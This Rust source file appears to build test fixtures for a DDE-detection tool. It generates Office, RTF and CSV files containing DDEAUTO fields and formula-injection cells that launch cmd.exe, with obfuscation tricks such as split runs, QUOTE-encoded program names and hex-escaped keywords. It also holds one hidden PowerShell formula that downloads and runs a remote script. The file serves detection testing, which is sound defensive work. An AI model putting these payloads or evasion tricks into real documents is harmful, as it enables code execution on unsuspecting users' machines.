//! Documents under `documents/positive/`: each carries DDE the tool must
//! report (see the commands in [`crate::catalog::CATALOG`]).
//!
//! Raw strings hold field codes exactly as stored: `c:\\windows` in Word
//! XML, `c:\\\\windows` in RTF.

use crate::excel::{self, CT_XLSM};
use crate::text::{record, table, utf8_with_bom, utf16le_with_bom};
use crate::word::{
    self, CT_DOCM, CT_DOTM, FLD_BEGIN, FLD_END, FLD_SEPARATE, fld_char_field, fld_simple,
    instr_run, p, run, word_body, word_body_with_section, word_part,
};
use crate::word_extras::realistic_word;

/// The string the QUOTE codes of `word-quote-nested.docx` spell: field-code
/// text, so its backslashes are doubled.
pub const QUOTE_PROGRAM: &str = r"C:\\Windows\\System32\\cmd.exe";

/// The QUOTE field instruction of `word-quote-nested.docx`.
pub fn quote_instr() -> String {
    format!("QUOTE {}", word::quote_codes(QUOTE_PROGRAM))
}

/// Fixture 1: DDEAUTO split over three instruction runs.
pub fn word_ddeauto_runs() -> Vec<u8> {
    let body = p(&run(
        "Dear customer, please allow the document to update its links.",
    )) + &p(&fld_char_field(
        &[
            "DDE",
            r"AUTO c:\\windows\\system32\\cmd.exe ",
            r#""/k calc.exe""#,
        ],
        "!Unexpected End of Formula",
    ));
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// Fixture 2: DDE in a self-closing `w:fldSimple`.
pub fn word_dde_fldsimple() -> Vec<u8> {
    let body = p(&run("Shipping notice"))
        + &p(&fld_simple(
            r#" DDE c:\\windows\\system32\\cmd.exe "/c notepad.exe" "#,
            "",
        ));
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// One DDEAUTO field running `cmd.exe "/c echo {what}"`.
fn echo_field(what: &str) -> String {
    fld_char_field(&[&format!(r#"DDEAUTO cmd.exe "/c echo {what}""#)], what)
}

/// Fixture 3: A macro-enabled document with a DDEAUTO field in every story part.
pub fn word_every_part() -> Vec<u8> {
    let body = p(&(run("Body ") + &echo_field("body")))
        + &p(&(run("See the note.")
            + "<w:r><w:rPr><w:vertAlign w:val=\"superscript\"/></w:rPr><w:footnoteReference w:id=\"1\"/></w:r>"
            + "<w:r><w:rPr><w:vertAlign w:val=\"superscript\"/></w:rPr><w:endnoteReference w:id=\"1\"/></w:r>"))
        + &p(&("<w:commentRangeStart w:id=\"0\"/>".to_owned()
            + &run("Reviewed text.")
            + "<w:commentRangeEnd w:id=\"0\"/><w:r><w:commentReference w:id=\"0\"/></w:r>"));
    let section = word::A4_SECTION.replace(
        "<w:sectPr>",
        "<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rId1\"/>\
         <w:footerReference w:type=\"default\" r:id=\"rId2\"/>",
    );
    let document = word_body_with_section(&body, &section);
    let header = word_part("hdr", &p(&echo_field("header")));
    let footer = word_part("ftr", &p(&echo_field("footer")));
    let footnotes = word::notes_part("footnote", &[p(&echo_field("footnote"))]);
    let endnotes = word::notes_part("endnote", &[p(&echo_field("endnote"))]);
    let comments = word_part(
        "comments",
        &format!(
            "<w:comment w:id=\"0\" w:author=\"Reviewer\" w:date=\"2017-10-09T08:12:00Z\" w:initials=\"R\">{}</w:comment>",
            p(&echo_field("comment"))
        ),
    );
    realistic_word(
        CT_DOCM,
        document.as_bytes(),
        &[
            ("word/header1.xml", header.as_bytes()),
            ("word/footer1.xml", footer.as_bytes()),
            ("word/footnotes.xml", footnotes.as_bytes()),
            ("word/endnotes.xml", endnotes.as_bytes()),
            ("word/comments.xml", comments.as_bytes()),
        ],
        "Status update",
        "Reviewer",
    )
}

/// Fixture 4: DDEAUTO whose program comes from a nested QUOTE field.
pub fn word_quote_nested() -> Vec<u8> {
    let field = [
        FLD_BEGIN,
        &instr_run("DDEAUTO "),
        FLD_BEGIN,
        &instr_run(&quote_instr()),
        FLD_SEPARATE,
        &run(r"C:\Windows\System32\cmd.exe"),
        FLD_END,
        &instr_run(r#" "/c calc.exe""#),
        FLD_SEPARATE,
        FLD_END,
    ]
    .concat();
    let body = p(&run("Loading, please wait")) + &p(&field);
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// Fixture 5: A macro-enabled template with a lower-case `ddeauto`.
pub fn word_lowercase() -> Vec<u8> {
    let body = p(&fld_char_field(
        &[r#"ddeauto c:\\windows\\system32\\cmd.exe "/c whoami""#],
        "Template",
    ));
    let document = word_body(&body);
    word::word_package(CT_DOTM, &[("word/document.xml", document.as_bytes())])
}

/// Fixture 6: A workbook with a DDE external link part.
pub fn excel_ddelink() -> Vec<u8> {
    let sheet = excel::sheet_xml(&excel::row(
        1,
        &[excel::cell_number("A1", 1.0), excel::cell_number("B1", 2.0)],
    ));
    let link = excel::dde_link_xml("cmd", "/c calc.exe", &["_xlbgnm.A1"]);
    excel::xlsx(&[
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/externalLinks/externalLink1.xml", link),
    ])
}

/// The DDE formula of `excel-formula.xlsm` (stored without `=`).
pub const POWERSHELL_FORMULA: &str = "cmd|'/c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(''http://203.0.113.7/p.ps1'')'!A0";

/// Fixture 7: A macro-enabled workbook with a DDE cell formula and no link part.
pub fn excel_formula() -> Vec<u8> {
    let rows = excel::row(1, &[excel::cell_number("A1", 42.0)])
        + &excel::row(2, &[excel::cell_formula("B2", POWERSHELL_FORMULA, "0")]);
    let sheet = excel::sheet_xml(&rows);
    excel::excel_package(CT_XLSM, &[("xl/worksheets/sheet1.xml", sheet.as_bytes())])
}

/// Fixture 8: An RTF DDEAUTO field.
pub fn rtf_ddeauto() -> Vec<u8> {
    br#"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Calibri;}}\pard Dear customer,\par{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\fldrslt Click}}\par}"#
        .to_vec()
}

/// Fixture 9: RTF fields whose keyword is hex-escaped or split across groups.
pub fn rtf_escaped() -> Vec<u8> {
    concat!(
        r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Calibri;}}\pard Quarterly figures attached.\par",
        "\r\n",
        r#"{\field{\*\fldinst \'44\'44\'45AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc.exe"}{\fldrslt Update}}\par"#,
        "\r\n",
        r#"{\field{\*\fldinst {\u68?}{DE}{\b0 AU}TO c:\\\\windows\\\\system32\\\\cmd.exe "/c mspaint.exe"}{\fldrslt Update}}\par}"#,
    )
    .as_bytes()
    .to_vec()
}

/// Fixture 10: CSV with a `=cmd|…` cell.
pub fn csv_cmd() -> Vec<u8> {
    table(
        &[
            &["name", "amount", "note"],
            &["alice", "10", "=cmd|'/c calc.exe'!A0"],
        ],
        ',',
    )
    .into_bytes()
}

/// Fixture 11: UTF-16LE CSV with a `+cmd|…` cell.
pub fn csv_utf16() -> Vec<u8> {
    utf16le_with_bom(&table(
        &[
            &["name", "phone", "note"],
            &["bob", "555-0100", "+cmd|'/c notepad.exe'!A1"],
        ],
        ',',
    ))
}

/// Fixture 12: UTF-8 BOM, tab-separated, with an `@SUM(…)*cmd|…` cell.
pub fn csv_bom_tsv() -> Vec<u8> {
    utf8_with_bom(&table(
        &[
            &["id", "formula", "comment"],
            &["1", "@SUM(1+1)*cmd|'/c calc.exe'!A0", "ok"],
        ],
        '\t',
    ))
}

/// Fixture 13: LibreOffice-style `=DDE("cmd";"/c calc.exe";…)`, quoted for CSV.
pub fn csv_libreoffice() -> Vec<u8> {
    let text = record(&["id", "value"], ',')
        + &record(&["1", r#"=DDE("cmd";"/c calc.exe";"__DdeLink_60_3")"#], ',');
    text.into_bytes()
}

/// Fixture 14: Tab-separated text with a `-2+3+cmd|…` cell.
pub fn txt_formula() -> Vec<u8> {
    table(
        &[
            &["item", "qty", "calc"],
            &["widget", "2", "-2+3+cmd|'/c calc.exe'!A0"],
        ],
        '\t',
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quote_codes_match_the_spec() {
        assert_eq!(
            quote_instr(),
            "QUOTE 67 58 92 92 87 105 110 100 111 119 115 92 92 83 121 115 116 101 109 51 50 \
             92 92 99 109 100 46 101 120 101"
        );
        let codes = quote_instr();
        let decoded = word::decode_quote_codes(codes.strip_prefix("QUOTE ").unwrap());
        assert_eq!(decoded.as_deref(), Some(QUOTE_PROGRAM));
    }

    #[test]
    fn libreoffice_cell_is_quoted() {
        let text = String::from_utf8(csv_libreoffice()).unwrap();
        assert!(text.contains(r#""=DDE(""cmd"";""/c calc.exe"";""__DdeLink_60_3"")""#));
    }

    #[test]
    fn fldsimple_matches_the_spec() {
        let xml = fld_simple(
            r#" DDE c:\\windows\\system32\\cmd.exe "/c notepad.exe" "#,
            "",
        );
        assert_eq!(
            xml,
            r#"<w:fldSimple w:instr=" DDE c:\\windows\\system32\\cmd.exe &quot;/c notepad.exe&quot; "/>"#
        );
    }
}
